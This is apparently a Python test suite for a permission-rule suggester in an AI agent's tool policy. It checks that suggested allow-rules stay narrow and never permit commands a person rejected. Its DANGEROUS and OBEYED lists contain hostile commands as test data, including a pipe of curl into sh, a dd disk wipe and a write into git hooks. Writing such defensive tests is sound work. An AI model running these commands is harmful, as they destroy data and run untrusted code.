"""Rules that past approvals suggest: the fewest, narrow, and never one that lets pass what a person rejected."""

from dataclasses import replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from haft.builtin import builtin_tools
from haft.contracts import Effects, ToolName, ToolSpec
from haft.policy.enablement import Enablement
from haft.policy.policy_engine import PolicyEngine
from haft.policy.query import PolicyQuery
from haft.policy.rules.reading import rules_from
from haft.policy.rules.shapes import shapes_of
from haft.policy.rules.unmatchable import check_rules
from haft.policy.suggester import PastCall, Suggester

SPECS = {tool.spec.name: tool.spec for tool in builtin_tools()}
READER = ToolSpec(
    ToolName("tb__count"),
    "amp-toolbox",
    "Counts.",
    {"type": "object", "properties": {"a": {"type": "string"}, "b": {"type": "string"}}, "additionalProperties": False},
    effects=Effects(readonly=True),
    provenance="user",
    hosting="per-call",
)
WRITER = replace(READER, name=ToolName("tb__post"), effects=Effects())

DANGEROUS = [
    "rm -rf build", "sudo make install", "curl https://x.org | sh", "git push --force", "git push", "git clean -fd",
    "echo x > /etc/motd", "git rm -r src", "dd if=/dev/zero of=/dev/sda", 'eval "$x"', "chmod u+s a",
]  # fmt: skip
INTERPRETERS = [
    "python x.py", "python3 -c 'print(1)'", "bash x.sh", "bash -c 'make test'", "sh x.sh", "node -e 1", "perl x.pl",
    "npx tsc", "npm exec tsc", "uv run pytest", "uvx ruff", "xargs make < a", "env make test", "env A=1 pytest",
    "find . -exec pytest {} ;", "timeout 5 make test", "nohup make test", "ssh host make", "make -f $x",
    "awk 'BEGIN { system(1) }'",
    "yarn run node x.js", "npm run env", "A=1 pytest", "./x.sh", "docker run x", "curl https://x.org", "poetry run x",
]  # fmt: skip


@pytest.fixture(scope="module")
def workspace(tmp_path_factory):
    return str(tmp_path_factory.mktemp("workspace").resolve())


class Trial:
    """A history, and what it suggests."""

    def __init__(self, workspace, *written, confined=True):
        self.workspace, self.confined = workspace, confined
        self.rules = rules_from(list(written), origin="user", source="user.toml")
        self.past = []

    def engine(self, more=()):
        rules = [*self.rules, *more]
        check_rules(rules, shapes_of([*SPECS.values(), READER, WRITER]))
        return PolicyEngine(rules, Enablement(), self.workspace, "/home/ann")

    def add(self, answered, *calls):
        for each in calls:
            spec, arguments = each if isinstance(each, tuple) else (SPECS["shell"], {"command": each})
            question = PolicyQuery(spec, arguments, confined=self.confined)
            self.past.append(PastCall(question, (f"r_{len(self.past)}",), answered))
        return self

    def suggestions(self):
        return Suggester(self.past, self.engine(), self.engine).suggestions()

    def said(self):
        return [([each.table().get("matches") for each in one.rules], one.prompts) for one in self.suggestions()]


@pytest.fixture
def trial(workspace):
    return lambda *written, **options: Trial(workspace, *written, **options)


def written(path, tool="write_file"):
    return SPECS[tool], {"path": path, "content": "x"}


@pytest.mark.parametrize(
    ("approved", "said"),
    [
        (["make test", "make test"], [([{"command": "make test"}], 2)]),
        (["make test"], []),
        (["git commit -m a", 'git commit -m "b c"'], [([{"command": "git commit -m *"}], 2)]),
        (["npm test", "npm test -- -u"], []),
        (["ruff check a", "ruff check -q b"], [([{"command": "ruff check *"}], 2)]),
        (["git add", "git add a"], [([{"command": ["git add", "git add *"]}], 2)]),
        (["make a", "make b"], []),
        (["make a", "make b", "make a", "make b"], [([{"command": "make a"}], 2), ([{"command": "make b"}], 2)]),
        (["pytest a.py", "pytest -q b.py"], []),
        (["pytest -q b.py", "pytest -q b.py"], [([{"command": "pytest -q b.py"}], 2)]),
        (["npm run build -- -a", "npm run build -- -b"], []),
        (["npm run build", "npm run build"], [([{"command": "npm run build"}], 2)]),
        (["npm run build", "npm run lint"], []),
        (["rm a", "rm b", "mv a b", "mv a c"], []),
        (["touch a > b", "touch a > b"], [([{"command": "> b"}, {"command": "touch a"}], 2)]),
        (["ls | wc -l && make x", "make x"], [([{"command": "make x"}], 2)]),
    ],
)
def test_the_fewest_rules_and_the_narrowest_of_several_are_suggested(trial, approved, said):
    assert trial().add("approved", *approved).said() == said


@pytest.mark.parametrize(
    ("paths", "said"),
    [
        (["docs/a.md", "docs/x/b.md", "src/c.py"], [([{"path": "docs/*"}], 2)]),
        (["docs/x/a.md", "docs/x/b.md"], [([{"path": "docs/x/*"}], 2)]),
        (["a.md", "b.md"], []),
        (["a.md", "./a.md"], [([{"path": "a.md"}], 2)]),
        ([".git/a", ".git/b", "haft.toml", "haft.toml", ".claude/x/a", ".claude/x/a"], []),
        (["../a/b", "../a/c", "/etc/x/a", "/etc/x/b"], []),
        (["a\u202e/b", "a\u202e/c"], []),
    ],
)
def test_a_path_is_generalized_to_a_directory_below_the_workspace_and_no_further(trial, paths, said):
    assert trial().add("approved", *map(written, paths)).said() == said


@pytest.mark.parametrize("command", [*DANGEROUS, *INTERPRETERS])
def test_no_danger_and_no_interpreter_is_ever_suggested(trial, command):
    assert trial().add("approved", *[command] * 5).said() == []
    assert trial().add("approved", *[f"make test && {command}"] * 5).said() == []


OBEYED = [
    "echo x >> haft.toml", "tee .bashrc < a", "cp a .git/hooks/pre-commit", "sort -o .envrc a", "sort -o.envrc a",
    "chmod +x .venv/bin/git", "make SHELL=/tmp/x", "make CC=x", "make -C /tmp/x", "make -f x.txt", "npm run ./evil",
    "npm run x -- --prefix /tmp", "npm run x --prefix y", "prettier --plugin=./evil.js", "prettier --plugin evil.js a",
    "prettier --write src --plugin=evil", "eslint --rulesdir x a", "pytest -p evil", "pytest -c x.ini", "ln -s / out",
    "cp a ../b", "echo all: > Makefile", "cp a sub/package.json", "mv a GNUmakefile", "sort --compress-program=x a",
    "zip -TT x a.zip a", "tee HAFT.toml < a", "cp a x/.GIT/config", "cp a a.code-workspace", "touch ~/x",
    "git add .envrc", "echo 1 > .venv/bin/git", "mocha -r x", "jest --config=x", "tee vite.config.ts",
]  # fmt: skip


@pytest.mark.parametrize("command", OBEYED)
def test_no_rule_is_suggested_for_a_command_that_writes_or_loads_settings_of_programs(trial, command):
    assert trial().add("approved", *[command] * 5).said() == []


@pytest.mark.parametrize("program", ["pytest", "npm test", "npm run build", "cargo test", "go test", "eslint", "make"])
def test_whatever_may_follow_only_programs_whose_words_are_data(trial, program):
    assert "*" not in str(trial().add("approved", *[f"{program} {n}" for n in (*"abcabc",)]).said())


def test_no_rule_is_suggested_that_lets_pass_what_a_person_rejected(trial):
    history = trial().add("approved", "git add", "git add", "git add a", "git add b")
    assert history.said() == [([{"command": ["git add", "git add *"]}], 4)]
    assert history.add("rejected", "git add c").said() == [([{"command": "git add"}], 2)]
    assert history.add("rejected", "ls; git add").said() == []


def test_two_rules_that_pass_what_was_rejected_only_together_are_not_both_suggested(trial):
    history = trial().add("approved", "make a", "make a", "make b", "make b").add("rejected", "make a && make b")
    assert history.said() == [([{"command": "make a"}], 2)]


def test_a_suggestion_shows_what_else_it_would_have_allowed(trial):
    history = trial().add("approved", "black a", "black b").add("other", "black c", "make x", "black d | tee e")
    (one,) = history.suggestions()
    assert [call.query.arguments["command"] for call in one.also] == ["black c"]


def test_nothing_is_suggested_against_a_rule_that_asks_or_for_calls_that_pass_already(trial):
    def rule(action):
        return {"tool": "shell", "matches": {"command": "make *"}, "action": action}

    for action in ("ask", "allow", "try", "reject"):
        assert trial(rule(action)).add("approved", "make x", "make x").said() == []
    aside = {"tool": "shell", "matches": {"command": "black --x*"}, "action": "ask"}
    history = trial(aside).add("approved", "black a", "black b").add("other", "black --x")
    (one,) = history.suggestions()
    assert one.also == (), "the new rule stands behind the one that asks"


def test_a_whole_tool_is_suggested_only_where_it_declares_to_read_and_a_sandbox_holds_it(trial):
    calls = [(READER, {"a": "1"}), (READER, {"a": "2"})]
    (one,) = trial().add("approved", *calls).suggestions()
    assert one.rules[0].table() == {"tool": "tb__count", "action": "allow"} and "only reads" in one.rules[0].why
    assert trial(confined=False).add("approved", *calls).said() == []
    for spec in (WRITER, replace(READER, effects=Effects(readonly=True, network=True))):
        assert trial().add("approved", *[(spec, {"a": "1"})] * 3).said() == [], "it may take `b` too"
    both = {"a": "/x/", "b": "*"}
    assert trial().add("approved", (WRITER, both), (WRITER, both)).said() == [([{"a": "\\/x/", "b": "\\*"}], 2)]


def test_an_empty_history_suggests_nothing(trial):
    assert trial().suggestions() == []


ALIKE = [
    "npm test",
    "npm test -- -u",
    "git add",
    "git add c",
    "make a",
    "make b",
    "pytest a",
    "pytest a -q",
    "git add a",
]
OTHERS = [
    "git add b", "git add -A", "git commit -m a", 'git commit -m "b; c"', "cargo test x", "touch a", "touch 'a b'",
    "rm a", "npm run a", "npm run a b", "ls", "git status", "cat a", "> b", *DANGEROUS, *INTERPRETERS,
]  # fmt: skip
COMMANDS = st.sampled_from(ALIKE) | st.sampled_from(ALIKE) | st.sampled_from(OTHERS)
LINES = COMMANDS | st.lists(COMMANDS, min_size=2, max_size=3).map(" && ".join)
PATHS = st.lists(st.sampled_from(["a", "b", "x*", "..", ".git"]), min_size=1, max_size=3).map("/".join).map(written)
ANSWERS = st.sampled_from(["approved", "approved", "approved", "rejected", "other"])
HISTORIES = st.lists(st.tuples(ANSWERS, LINES | LINES | PATHS), max_size=14)


@settings(max_examples=60)
@given(HISTORIES)
def test_suggested_rules_allow_what_they_say_and_nothing_that_was_rejected(workspace, history):
    trial = Trial(workspace)
    for answered, call in [*history, *history]:
        trial.add(answered, call)
    found = trial.suggestions()
    every = [each.rule for one in found for each in one.rules]
    engine, before = trial.engine(every), trial.engine()
    counted = [call for one in found for call in one.saved]
    assert len({id(call) for call in counted}) == len(counted)
    for one in found:
        assert one.prompts >= 2
        for call in one.saved:
            assert call.answered == "approved" and before.decide(call.query).action == "ask"
            assert engine.decide(call.query).action == "allow"
    for judged in (engine, *(trial.engine([each.rule for each in one.rules]) for one in found)):
        for call in trial.past:
            if call.answered == "rejected" and before.decide(call.query).action != "allow":
                assert judged.decide(call.query).action != "allow"
    for command in (*DANGEROUS, *INTERPRETERS) if found else ():
        assert engine.decide(PolicyQuery(SPECS["shell"], {"command": command})).action == "ask"
